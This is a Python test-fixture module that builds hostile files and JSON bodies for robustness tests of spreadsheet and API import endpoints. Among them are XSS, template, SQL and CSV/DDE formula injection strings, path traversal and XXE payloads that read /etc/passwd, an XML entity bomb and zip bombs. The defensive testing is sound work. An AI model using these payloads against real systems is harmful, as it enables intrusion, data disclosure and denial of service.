"""Hostile inputs for every import and API endpoint (issue 12: no 500 on any input).

Plain functions that build, in memory, the files and JSON bodies an attacker or a careless
export could send: malformed, truncated and zip-bomb-like workbooks, a workbook claiming
1,048,576 rows and 16,384 columns, formulas and CSV injection, every encoding, Thai digits,
B.E./C.E. years, impossible dates, huge, negative and NaN amounts, 10 MB cells, NUL,
right-to-left overrides, zero-width characters and markup. Nothing is written to disk.

The cell values come in kinds ("text", "number", "date", "any"), so that a caller can put
each one where it is meant to hurt while the rest of a valid row stays valid (and the row
is written, not only refused): `row_variants(row, kinds)`. The file builders take a valid
file (a CSV's header and row, or a filled-in workbook) and return `FileCase`s; `json_cases`
takes a valid JSON body and returns raw bodies (some of them not even JSON).

Used by `oneplan/core/tests/test_hostile_inputs.py`, which sends each case to every import
endpoint and asks for no answer >= 500 and no partial write.
"""

from __future__ import annotations

import codecs
import copy
import csv
import io
import json
import random
import re
import struct
import zipfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from datetime import date, datetime, time
from functools import lru_cache
from typing import Any

BIG_CELL = 10 * 1024 * 1024  # characters in "a 10 MB cell"
MAX_ROW, MAX_COLUMN = 1_048_576, 16_384  # Excel's last row and column (XFD)


@dataclass(frozen=True)
class FileCase:
    label: str
    name: str
    data: bytes


@dataclass(frozen=True)
class JsonCase:
    label: str
    body: bytes  # the raw request body: usually JSON, sometimes deliberately not


# --------------------------------------------------------------------------- cell values

NUL = "\x00"
RLO = "\u202e"
ZERO_WIDTH = "\u200b\u200c\u200d\ufeff\u2060"


def text_values() -> list[tuple[str, str]]:
    return [
        ("nul", f"สำนักงาน{NUL}เกษตร"),
        ("nul-only", NUL),
        ("control", "ab\x01\x08\x0b\x0c\x1b\x1f\x7fcd"),
        ("rtl-override", f"โครงการ{RLO}exe.txt"),
        ("bidi-isolates", "\u2066\u2067\u2068abc\u2069\u202a\u202b\u202c"),
        ("zero-width", f"ก{ZERO_WIDTH}ข"),
        ("zero-width-only", ZERO_WIDTH),
        ("whitespace-only", " \t\u00a0\u3000 "),
        ("script", "<script>alert('x')</script>"),
        ("html-attr", '"><img src=x onerror=alert(1)>'),
        ("template-tags", "{{ 7*7 }} {% debug %} ${7*7}"),
        ("csv-formula", "=cmd|' /C calc'!A0"),
        ("csv-plus", "+1+1"),
        ("csv-minus", "-2+3+cmd|' /C calc'!A0"),
        ("csv-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("csv-hyperlink", '=HYPERLINK("http://example.invalid/?x="&A1,"คลิก")'),
        ("csv-tab-cr", "\t=1+1\r=2+2"),
        ("sql", "'; DROP TABLE monitoring_transaction; --"),
        ("path", "../../../../etc/passwd"),
        ("thai-digits", "๑๒๓๔๕๖๗๘๙๐"),
        ("combining-pileup", "ก" + "\u0e48\u0e49\u0e4a\u0e4b\u0e4c" * 20),
        ("emoji", "โครงการ 🙂👨‍👩‍👧‍👦🇹🇭"),
        ("long-line", "ก" * 100_000),
        ("many-lines", "\n".join(f"{n}. บรรทัด" for n in range(5_000))),
        ("unicode-newlines", "a\u2028b\u2029c\x85d"),
        ("bom-inside", "ab\ufeffcd"),
    ]


def number_values() -> list[tuple[str, Any]]:
    return [
        ("huge", "99999999999999999999"),
        ("huge-int", 10**30),
        ("huge-negative", "-99999999999999999999"),
        ("just-too-big", "100000000000000.00"),
        ("many-decimals", "1.23456789012345678901234567890"),
        ("exponent", "1e400"),
        ("float-huge", 1.7976931348623157e308),
        ("negative", "-1500.50"),
        ("negative-parentheses", "(1,000.00)"),
        ("nan-text", "NaN"),
        ("snan-text", "sNaN"),
        ("infinity-text", "Infinity"),
        ("minus-inf-text", "-inf"),
        ("nan-float", float("nan")),
        ("inf-float", float("inf")),
        ("thai-digit-amount", "๑,๒๕๐,๐๐๐.๕๐"),
        ("currency", "฿1,000 บาท"),
        ("digits-400", "9" * 400),
    ]


def date_values() -> list[tuple[str, Any]]:
    return [
        ("feb-30-be", "30/2/2569"),
        ("feb-29-not-leap", "29/02/2570"),
        ("day-32", "32/01/2569"),
        ("month-13", "15/13/2569"),
        ("ce-year", "15/01/2026"),
        ("be-two-digit", "15 ม.ค. 69"),
        ("thai-digit-date", "๑๕/๐๑/๒๕๖๙"),
        ("year-99999", "1/1/99999"),
        ("iso-be", "2569-02-30"),
        ("year-1", "0001-01-01"),
        ("far-future", datetime(9999, 12, 31, 23, 59, 59)),
        ("time-only", time(12, 30)),
        ("date-object", date(2026, 1, 15)),
    ]


def other_values() -> list[tuple[str, Any]]:
    return [
        ("bool", True),
        ("zero", 0),
        ("formula-div0", "=1/0"),
        ("formula-external", "='file:///etc/passwd'#$A$1"),
    ]


def values() -> list[tuple[str, str, Any]]:
    """Every hostile cell value as (kind, label, value)."""
    return (
        [("text", label, value) for label, value in text_values()]
        + [("number", label, value) for label, value in number_values()]
        + [("date", label, value) for label, value in date_values()]
        + [("any", label, value) for label, value in other_values()]
    )


def big_text(size: int = BIG_CELL) -> str:
    """A cell of `size` characters (Thai and Latin, so that no encoding shortens it)."""
    unit = "ข้อมูลยาวมาก long "
    return (unit * (size // len(unit) + 1))[:size]


def row_variants(row: Sequence[Any], kinds: Sequence[str]) -> list[tuple[str, list[Any]]]:
    """For each hostile value: the row with it in every cell ("all"), and the valid row with
    it only in the cells of its kind (so the rest stays valid and the row may be written)."""
    variants: list[tuple[str, list[Any]]] = []
    for kind, label, value in values():
        variants.append((f"all-{label}", [value] * len(row)))
        targets = [i for i, k in enumerate(kinds) if kind in ("any", k)]
        if targets and len(targets) < len(row):
            changed = list(row)
            for i in targets:
                changed[i] = value
            variants.append((f"{kind}-{label}", changed))
    return variants


def _csv_cell(value: Any) -> str:
    if isinstance(value, datetime):
        return value.strftime("%d/%m/%Y %H:%M:%S")
    if isinstance(value, date | time):
        return value.isoformat()
    return str(value)


# --------------------------------------------------------------------------- CSV


def csv_text(rows: Sequence[Sequence[Any]], delimiter: str = ",", newline: str = "\r\n") -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator=newline)
    writer.writerows([[_csv_cell(v) for v in row] for row in rows])
    return out.getvalue()


ENCODINGS = (
    "utf-8",
    "utf-8-sig",
    "utf-16",  # with its BOM, little-endian here
    "utf-16-le",
    "utf-16-be",
    "utf-32",
    "tis-620",
    "cp874",
    "cp1252",
    "latin-1",
)


def encoded(text: str, encoding: str) -> bytes:
    """`text` in `encoding`; characters it cannot hold become "?" (as Excel saves them)."""
    return text.encode(encoding, errors="replace")


def csv_cases(header: Sequence[str], row: Sequence[Any], kinds: Sequence[str]) -> list[FileCase]:
    """A CSV file per hostile cell value, per encoding and per malformation, around a valid
    header and row. `kinds` names each column's kind ("text", "number", "date", "code")."""
    cases = [
        FileCase(f"csv-{label}", f"{label}.csv", csv_text([header, v]).encode("utf-8-sig"))
        for label, v in row_variants(row, kinds)
    ]
    valid = csv_text([header, row, row])
    for encoding in ENCODINGS:
        cases.append(FileCase(f"csv-enc-{encoding}", f"{encoding}.csv", encoded(valid, encoding)))
    ascii_header = csv_text([header]).encode("utf-8")
    cases += [
        FileCase("csv-empty", "empty.csv", b""),
        FileCase("csv-bom-only", "bom.csv", codecs.BOM_UTF8),
        FileCase("csv-header-only", "header.csv", csv_text([header]).encode()),
        FileCase("csv-no-header", "noheader.csv", csv_text([row] * 20).encode()),
        FileCase("csv-garbage", "garbage.csv", garbage(4096, seed=1)),
        FileCase("csv-garbage-high", "garbage-high.csv", bytes(range(128, 256)) * 64),
        FileCase(
            "csv-undecodable-after-header",
            "cp1252-tail.csv",
            ascii_header
            + valid.encode("utf-8")[len(ascii_header) :]
            + "Café Ÿ\r\n".encode("cp1252"),
        ),
        FileCase(
            "csv-latin1-bytes-late",
            "latin1-late.csv",
            valid.encode() + csv_text([row] * 2000).encode() + b"\xff\xfe\x81\x9f,x\r\n",
        ),
        FileCase(
            "csv-mixed-utf8-tis620",
            "mixed.csv",
            valid.encode() + "สำนักงาน".encode("tis-620") + b"\r\n",
        ),
        FileCase(
            "csv-nul-first-4k",
            "nul-early.csv",
            csv_text([header]).encode() + b"\x00" * 10 + valid.encode(),
        ),
        FileCase(
            "csv-nul-after-4k",
            "nul-late.csv",
            valid.encode()
            + csv_text([row] * (8192 // max(1, len(csv_text([row]))) + 1)).encode()
            + _with_nul(csv_text([row])).encode(),
        ),
        FileCase("csv-unclosed-quote", "quote.csv", (valid + '"unclosed,' + "x" * 100).encode()),
        FileCase("csv-lone-cr", "cr.csv", csv_text([header, row, row], newline="\r").encode()),
        FileCase("csv-semicolon", "semicolon.csv", csv_text([header, row], delimiter=";").encode()),
        FileCase("csv-tab", "tab.tsv", csv_text([header, row], delimiter="\t").encode()),
        FileCase(
            "csv-16384-columns",
            "wide.csv",
            csv_text([list(header) + ["x"] * MAX_COLUMN, list(row) + ["1"] * MAX_COLUMN]).encode(),
        ),
        FileCase("csv-short-rows", "short.csv", csv_text([header, row[:1], row[:2], []]).encode()),
        FileCase(
            "csv-long-rows",
            "long.csv",
            csv_text([header, list(row) * 50, [*row, ""]]).encode(),
        ),
        FileCase("csv-blank-lines", "blank.csv", (csv_text([header]) + "\r\n" * 50_000).encode()),
        FileCase("csv-header-late", "late.csv", ("\r\n" * 30 + csv_text([header, row])).encode()),
        FileCase(
            "csv-duplicate-header", "dup.csv", csv_text([list(header) * 2, list(row) * 2]).encode()
        ),
        FileCase("csv-xlsx-named", "export.xlsx", valid.encode()),
        FileCase("csv-html", "export.csv", b"<html><body><table><tr><td>x</td></tr></table>"),
    ]
    return cases


def _with_nul(line: str) -> str:
    """A CSV line with a NUL in its third cell (or at its start)."""
    parts = line.split(",")
    if len(parts) > 2:
        parts[2] = parts[2][:1] + NUL + parts[2][1:]
        return ",".join(parts)
    return NUL + line


def big_csv(header: Sequence[str], row: Sequence[Any], column: int) -> FileCase:
    """The valid file with a 10 MB field in `column` of its row."""
    changed = list(row)
    changed[column] = big_text()
    return FileCase("csv-10mb-field", "big.csv", csv_text([header, changed]).encode("utf-8"))


def garbage(size: int, seed: int = 0) -> bytes:
    return random.Random(seed).randbytes(size)  # noqa: S311 - reproducible junk


# --------------------------------------------------------------------------- workbooks


def workbook(rows: Sequence[Sequence[Any]], title: str = "Sheet1") -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = title
    for row in rows:
        sheet.append(list(row))
    return _saved(book)


def _saved(book: Any) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _load(data: bytes) -> Any:
    import warnings

    from openpyxl import load_workbook

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return load_workbook(io.BytesIO(data))


FORMULAS = frozenset(value for label, value in other_values() if label.startswith("formula"))


def _put(cell: Any, value: Any) -> None:
    """A value in a cell as a user's file would hold it: text starting with "=" stays text
    (CSV injection typed into a cell) unless it is one of the formula cases (written as a
    formula, with no cached value: read as None)."""
    cell.value = value
    if isinstance(value, str) and value.startswith("=") and value not in FORMULAS:
        cell.data_type = "s"
    if isinstance(value, str) and value and value[0] in "=+-@" and cell.data_type == "s":
        cell.quotePrefix = True


def edited_workbook(
    base: bytes, sheet: str | None, changes: Callable[[Any], None] | dict[tuple[int, int], Any]
) -> bytes:
    """The base workbook with some cells set ({(row, column): value}, 1-based) or changed by a
    function of the worksheet."""
    book = _load(base)
    worksheet = book[sheet] if sheet else book.worksheets[0]
    if callable(changes):
        changes(worksheet)
    else:
        for (row, column), value in changes.items():
            _put(worksheet.cell(row=row, column=column), value)
    return _saved(book)


def _illegal_xml(value: Any) -> bool:
    return isinstance(value, str) and re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", value)


def workbook_cases(
    base: bytes,
    row: int,
    kinds: Sequence[str],
    sheet: str | None = None,
    *,
    every_cell_together: bool = False,
) -> list[FileCase]:
    """A workbook per hostile cell value (in row `row` of the sheet, whose columns from A
    have `kinds`), per raw cell type, plus the structural cases built from `base`.

    With `every_cell_together`, the values put in every cell of a row ("all-…") come in
    one workbook, a row each (an import that reports every row's problems reads them all
    in one request), instead of a workbook each."""
    book = _load(base)
    worksheet = book[sheet] if sheet else book.worksheets[0]
    valid = [worksheet.cell(row=row, column=i + 1).value for i in range(len(kinds))]
    cases: list[FileCase] = []
    together: dict[tuple[int, int], Any] = {}
    for label, values_ in row_variants(valid, kinds):
        if label.endswith(("-nul-only", "-control")):
            continue  # no workbook holds them; "nul" is sent as Excel's escape (below)
        values_ = [_xml_safe(v) for v in values_]
        if every_cell_together and label.startswith("all-"):
            at = row + len(together) // max(1, len(values_))
            together.update({(at, i + 1): v for i, v in enumerate(values_)})
            continue
        changes = {(row, i + 1): v for i, v in enumerate(values_)}
        cases.append(
            FileCase(f"xlsx-{label}", f"{label}.xlsx", edited_workbook(base, sheet, changes))
        )
    if together:
        data = edited_workbook(base, sheet, together)
        cases.append(FileCase("xlsx-all-values-a-row-each", "all.xlsx", data))
    cases += raw_cell_cases(base, row, len(kinds), sheet)
    cases += [
        FileCase("xlsx-extremes", "extremes.xlsx", extremes(base, sheet)),
        FileCase("xlsx-huge-date-serial", "serial.xlsx", _date_serials(base, row, sheet)),
        FileCase("xlsx-many-sheets", "sheets.xlsx", _many_sheets(base)),
        FileCase("xlsx-merged-cells", "merged.xlsx", _merged(base, row, len(kinds), sheet)),
        FileCase("xlsx-rows-repeated", "repeated.xlsx", _repeated(base, row, len(kinds), sheet)),
    ]
    return cases + archive_cases(base)


def _xml_safe(value: Any) -> Any:
    """What no XML can hold (NUL, other control characters) as Excel's escape (_x0000_)."""
    if not _illegal_xml(value):
        return value
    value = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", lambda m: f"_x{ord(m[0]):04X}_", value)
    return value.replace("\ufffe", "?").replace("\uffff", "?")


def big_workbook(base: bytes, row: int, column: int, sheet: str | None = None) -> FileCase:
    """The workbook with a 10 MB cell (column `column`, 1-based, of row `row`)."""
    data = edited_workbook(base, sheet, {(row, column): big_text()})
    return FileCase("xlsx-10mb-cell", "big.xlsx", data)


def extremes(base: bytes, sheet: str | None = None) -> bytes:
    """The workbook claiming 1,048,576 rows and 16,384 columns: cells at XFD1, A1048576 and
    XFD1048576 (so the sheet's dimension is A1:XFD1048576), and small."""

    def corners(worksheet: Any) -> None:
        worksheet.cell(row=1, column=MAX_COLUMN, value="XFD1")
        worksheet.cell(row=MAX_ROW, column=1, value="A1048576")
        worksheet.cell(row=MAX_ROW, column=MAX_COLUMN, value=99999999999999999999)

    return edited_workbook(base, sheet, corners)


def _date_serials(base: bytes, row: int, sheet: str | None) -> bytes:
    def serials(worksheet: Any) -> None:
        for column, value in ((1, 99_999_999), (2, -5), (3, 2_958_466)):
            cell = worksheet.cell(row=row, column=column, value=value)
            cell.number_format = "DD/MM/YYYY"

    return edited_workbook(base, sheet, serials)


def _many_sheets(base: bytes) -> bytes:
    book = _load(base)
    for n in range(200):
        book.create_sheet(f"ชีต{n}<>&")
    return _saved(book)


def _merged(base: bytes, row: int, width: int, sheet: str | None) -> bytes:
    def merge(worksheet: Any) -> None:
        worksheet.merge_cells(start_row=row, start_column=1, end_row=row + 3, end_column=width)

    return edited_workbook(base, sheet, merge)


def _repeated(base: bytes, row: int, width: int, sheet: str | None) -> bytes:
    def repeat(worksheet: Any) -> None:
        values_ = [worksheet.cell(row=row, column=c).value for c in range(1, width + 1)]
        for n in range(1, 200):
            for c, value in enumerate(values_, start=1):
                worksheet.cell(row=row + n, column=c, value=value)

    return edited_workbook(base, sheet, repeat)


RAW_CELLS = (
    # (label, type attribute, <v> text): what no spreadsheet program writes but a file may hold
    ("number-1e999", "n", "1E999"),
    ("number-minus-1e999", "n", "-1E999"),
    ("number-not-a-number", "n", "abc"),
    ("number-nan", "n", "NaN"),
    ("error-div0", "e", "#DIV/0!"),
    ("error-ref", "e", "#REF!"),
    ("iso-date-impossible", "d", "2569-02-30T00:00:00"),
    ("iso-date-garbage", "d", "yesterday"),
    ("bool-two", "b", "2"),
    ("bool-text", "b", "yes"),
    ("shared-string-out-of-range", "s", "999999"),
    ("shared-string-negative", "s", "-1"),
    ("unknown-type", "zz", "1"),
)
_PLACEHOLDER = 987654321.125


def raw_cell_cases(base: bytes, row: int, width: int, sheet: str | None = None) -> list[FileCase]:
    """Cells of the row rewritten in the sheet's XML with types and values of `RAW_CELLS`."""
    marked = edited_workbook(base, sheet, {(row, c): _PLACEHOLDER for c in range(1, width + 1)})
    path = _sheet_path(marked, sheet)
    cases = []
    for label, kind, text in RAW_CELLS:

        def rewrite(xml: bytes, kind: str = kind, text: str = text) -> bytes:
            pattern = (
                rb'(<c r="[A-Z]+\d+")([^>]*?)>(<v>)'
                + re.escape(repr(_PLACEHOLDER).encode())
                + rb"(</v>)"
            )
            return re.sub(
                pattern,
                lambda m: (
                    m[1]
                    + re.sub(rb'\st="[^"]*"', b"", m[2])
                    + f' t="{kind}">'.encode()
                    + m[3]
                    + text.encode()
                    + m[4]
                ),
                xml,
            )

        cases.append(FileCase(f"xlsx-raw-{label}", f"{label}.xlsx", rezip(marked, {path: rewrite})))
    return cases


def _sheet_path(data: bytes, sheet: str | None) -> str:
    """The archive path of a sheet (by title; the first when None)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        workbook_xml = archive.read("xl/workbook.xml").decode()
        rels = archive.read("xl/_rels/workbook.xml.rels").decode()
    sheets = re.findall(r'<sheet [^>]*name="([^"]*)"[^>]*r:id="([^"]+)"', workbook_xml)
    if not sheets:
        sheets = [
            (n, r)
            for r, n in re.findall(r'<sheet [^>]*r:id="([^"]+)"[^>]*name="([^"]*)"', workbook_xml)
        ]
    wanted = next(
        (rid for name, rid in sheets if sheet is None or name == _xml_escape(sheet)), None
    )
    target = re.search(
        rf'<Relationship [^>]*Id="{wanted}"[^>]*Target="([^"]+)"', rels
    ) or re.search(rf'<Relationship [^>]*Target="([^"]+)"[^>]*Id="{wanted}"', rels)
    path = target[1] if target else "worksheets/sheet1.xml"
    return path.lstrip("/") if path.startswith("/xl/") else f"xl/{path}"


def _xml_escape(text: str) -> str:
    return (
        text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    )


def rezip(
    data: bytes,
    changes: dict[str, Callable[[bytes], bytes] | bytes | None],
    extra: dict[str, bytes] | None = None,
) -> bytes:
    """The archive with members changed (a function of their bytes, new bytes, or None to
    drop them) and members added; new bytes for a member the archive lacks add it (a
    workbook without shared strings gets the hostile ones all the same)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        present = set(source.namelist())
        for name, change in changes.items():
            if name not in present and isinstance(change, bytes):
                extra = {**(extra or {}), name: change}
        for info in source.infolist():
            change = changes.get(info.filename, ...)
            if change is None:
                continue
            content = source.read(info.filename)
            if callable(change):
                content = change(content)
            elif change is not ...:
                content = change
            target.writestr(info.filename, content)
        for name, content in (extra or {}).items():
            target.writestr(name, content)
    return out.getvalue()


# --------------------------------------------------------------------------- archives


def archive_cases(base: bytes) -> list[FileCase]:
    """Files named .xlsx that are not sound workbooks, or are bombs."""
    sheet = _sheet_path(base, None)
    cases = [
        FileCase("xlsx-empty", "empty.xlsx", b""),
        FileCase("xlsx-garbage", "garbage.xlsx", garbage(20_000, seed=2)),
        FileCase("xlsx-pk-then-garbage", "pk.xlsx", b"PK\x03\x04" + garbage(5_000, seed=3)),
        FileCase("xlsx-truncated-half", "half.xlsx", base[: len(base) // 2]),
        FileCase("xlsx-truncated-end", "end.xlsx", base[:-30]),
        FileCase("xlsx-truncated-10", "ten.xlsx", base[:10]),
        FileCase("xlsx-old-xls", "old.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000)),
        FileCase("xlsx-pdf", "file.xlsx", b"%PDF-1.7\n" + garbage(2000, seed=4)),
        FileCase("xlsx-plain-zip", "zip.xlsx", _zip({"readme.txt": b"hello"})),
        FileCase("xlsx-no-sheet", "nosheet.xlsx", rezip(base, {sheet: None})),
        FileCase(
            "xlsx-broken-sheet-xml",
            "brokenxml.xlsx",
            rezip(base, {sheet: b"<worksheet><sheetData><row"}),
        ),
        FileCase(
            "xlsx-broken-workbook-xml",
            "brokenwb.xlsx",
            rezip(base, {"xl/workbook.xml": b"<workbook"}),
        ),
        FileCase(
            "xlsx-entity-bomb",
            "laughs.xlsx",
            rezip(base, {"xl/sharedStrings.xml": _billion_laughs()}),
        ),
        FileCase(
            "xlsx-external-entity",
            "xxe.xlsx",
            rezip(base, {"xl/sharedStrings.xml": _external_entity()}),
        ),
        FileCase("xlsx-zip-bomb", "bomb.xlsx", zip_bomb(base)),
        FileCase("xlsx-declared-bomb", "declared.xlsx", declared_bomb(base)),
        FileCase("xlsx-many-members", "members.xlsx", _many_members(base)),
        FileCase("xlsx-110000-empty-rows", "rows.xlsx", _many_rows(base)),
        FileCase("xlsx-encrypted-flag", "flag.xlsx", _encrypted_flag(base)),
    ]
    return cases


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def _billion_laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lollollollollollollollollollol">'] + [
        f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, 10)
    ]
    return (
        '<?xml version="1.0"?><!DOCTYPE sst [' + "".join(entities) + "]>"
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1"'
        ' uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    ).encode()


def _external_entity() -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1"'
        b' uniqueCount="1"><si><t>&xxe;</t></si></sst>'
    )


@lru_cache(maxsize=8)
def zip_bomb(base: bytes, unpacked: int = 120 * 1024 * 1024) -> bytes:
    """The workbook whose first sheet unpacks to more than `unpacked` bytes (whitespace
    inside its data, so it is still well-formed), a few hundred KB packed."""
    sheet = _sheet_path(base, None)
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target,
    ):
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename != sheet:
                target.writestr(info.filename, content)
                continue
            head, _, tail = content.partition(b"</sheetData>")
            with target.open(sheet, "w", force_zip64=True) as member:
                member.write(head)
                chunk = b" " * (1 << 20)
                for _ in range(unpacked // len(chunk) + 1):
                    member.write(chunk)
                member.write(b"</sheetData>" + tail)
    return out.getvalue()


def declared_bomb(base: bytes) -> bytes:
    """The workbook whose central directory claims its first sheet unpacks to ~4 GB."""
    sheet = _sheet_path(base, None).encode()
    data = bytearray(base)
    start = 0
    while True:
        at = data.find(b"PK\x01\x02", start)
        if at < 0:
            break
        name_length = struct.unpack_from("<H", data, at + 28)[0]
        if bytes(data[at + 46 : at + 46 + name_length]) == sheet:
            struct.pack_into("<I", data, at + 24, 0xFFFFFFF0)
        start = at + 4
    return bytes(data)


def _many_members(base: bytes) -> bytes:
    return rezip(base, {}, {f"xl/media/junk{n}.bin": b"x" for n in range(20_000)})


def _many_rows(base: bytes, rows: int = 110_000) -> bytes:
    """The first sheet with `rows` empty, formatted <row> elements after its data (as a sheet
    formatted down to its end holds), claiming every row and column of Excel."""
    sheet = _sheet_path(base, None)

    def more(xml: bytes) -> bytes:
        last = max((int(n) for n in re.findall(rb'<row r="(\d+)"', xml)), default=0)
        filler = b"".join(
            b'<row r="%d" s="1" customFormat="1"/>' % n for n in range(last + 1, last + rows + 1)
        )
        xml = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', xml)
        return xml.replace(b"</sheetData>", filler + b"</sheetData>")

    return rezip(base, {sheet: more})


def _encrypted_flag(base: bytes) -> bytes:
    """The zip's "encrypted" flag set on every member (as a password-protected zip)."""
    data = bytearray(base)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (at := data.find(signature, start)) >= 0:
            flags = struct.unpack_from("<H", data, at + offset)[0]
            struct.pack_into("<H", data, at + offset, flags | 1)
            start = at + 4
    return bytes(data)


# --------------------------------------------------------------------------- JSON


def _leaves(value: Any, path: tuple = ()) -> Iterator[tuple[tuple, Any]]:
    if isinstance(value, dict):
        for key, item in value.items():
            yield from _leaves(item, (*path, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from _leaves(item, (*path, index))
    else:
        yield path, value


def _set(body: Any, path: tuple, value: Any) -> Any:
    body = copy.deepcopy(body)
    target = body
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    return body


_NUMBER_RE = re.compile(r"^-?\d+(\.\d+)?$")
_DATE_RE = re.compile(r"^\d{4}-\d{2}-\d{2}$")


def _kind(value: Any) -> str:
    if isinstance(value, bool) or value is None:
        return "other"
    if isinstance(value, int | float):
        return "number"
    if isinstance(value, str) and _DATE_RE.match(value):
        return "date"
    if isinstance(value, str) and _NUMBER_RE.match(value):
        return "number"
    return "text" if isinstance(value, str) else "other"


def _dumps(body: Any) -> bytes:
    return json.dumps(body, ensure_ascii=False, allow_nan=True).encode("utf-8", "surrogatepass")


def json_cases(valid: Any) -> list[JsonCase]:
    """JSON bodies built from a valid one: each hostile value in every leaf of its kind at
    once, a NUL in each text field alone (the answer must name it), wrong types in each
    field, and bodies that are hardly JSON at all."""
    leaves = list(_leaves(valid))
    cases: list[JsonCase] = []

    def every(kind: str, value: Any) -> Any:
        body = valid
        for path, leaf in leaves:
            if _kind(leaf) == kind:
                body = _set(body, path, value)
        return body

    for kind, label, value in values():
        if kind == "any" or isinstance(value, datetime | date | time):
            continue
        if kind == "date" and not isinstance(value, str):
            continue
        target = "text" if kind == "text" else kind
        if not any(_kind(leaf) == target for _path, leaf in leaves):
            continue
        cases.append(JsonCase(f"json-{kind}-{label}", _dumps(every(target, value))))
    for path, leaf in leaves:
        if _kind(leaf) == "text":
            name = ".".join(map(str, path))
            cases.append(JsonCase(f"json-nul-in-{name}", _dumps(_set(valid, path, f"ab{NUL}cd"))))
    for path, _leaf in leaves[:40]:
        name = ".".join(map(str, path))
        for label, wrong in (
            ("list", [1, 2]),
            ("object", {"a": 1}),
            ("null", None),
            ("bool", False),
        ):
            cases.append(JsonCase(f"json-{label}-as-{name}", _dumps(_set(valid, path, wrong))))
    text = _dumps(valid).decode()
    first_text = next((p for p, leaf in leaves if _kind(leaf) == "text"), None)
    if first_text is not None:
        marker = "\x01MARK\x01"
        marked = _dumps(_set(valid, first_text, marker)).decode()
        escaped = json.dumps(marker)[1:-1]
        for label, raw in (
            ("lone-surrogate", "\\ud800"),
            ("lone-low-surrogate", "x\\udc00y"),
            ("escaped-nul", "a\\u0000b"),
        ):
            cases.append(JsonCase(f"json-{label}", marked.replace(escaped, raw).encode()))
    # Number literals JSON allows (1e999 is read as infinity) or Python's reader does (NaN).
    marker_number = 7654321
    first_number = next((p for p, leaf in leaves if isinstance(leaf, int | float)), None)
    numbered = (
        _dumps(_set(valid, first_number, marker_number)).decode()
        if first_number is not None
        else text
    )
    for label, literal in (
        ("nan-literal", "NaN"),
        ("infinity-literal", "-Infinity"),
        ("huge-literal", "1e999"),
        ("long-int-literal", "9" * 5000),
        ("negative-literal", "-1"),
    ):
        replaced = numbered.replace(str(marker_number), literal, 1)
        cases.append(JsonCase(f"json-{label}", replaced.encode()))
    cases += [
        JsonCase("json-empty", b""),
        JsonCase("json-not-json", b"this is not json"),
        JsonCase("json-truncated", text[: len(text) // 2].encode()),
        JsonCase("json-bom", codecs.BOM_UTF8 + text.encode()),
        JsonCase("json-utf16", text.encode("utf-16")),
        JsonCase("json-latin1-bytes", text.encode() + b"\xff"),
        JsonCase("json-array", b"[]"),
        JsonCase("json-array-of-body", f"[{text}]".encode()),
        JsonCase("json-string", b'"body"'),
        JsonCase("json-number", b"42"),
        JsonCase("json-null", b"null"),
        JsonCase("json-empty-object", b"{}"),
        JsonCase("json-deep-nesting", b"[" * 100_000 + b"]" * 100_000),
        JsonCase("json-deep-object", b'{"a":' * 50_000 + b"1" + b"}" * 50_000),
        JsonCase("json-duplicate-keys", (text[:-1] + ', "title": 1, "title": null}').encode()),
        JsonCase("json-trailing-garbage", (text + "}}}").encode()),
    ]
    return cases


def big_json(valid: dict) -> JsonCase:
    """The body with a 10 MB string in each of its text fields at the top level."""
    big = big_text()
    body = {k: (big if _kind(v) == "text" else v) for k, v in valid.items()}
    return JsonCase("json-10mb-strings", _dumps(body))
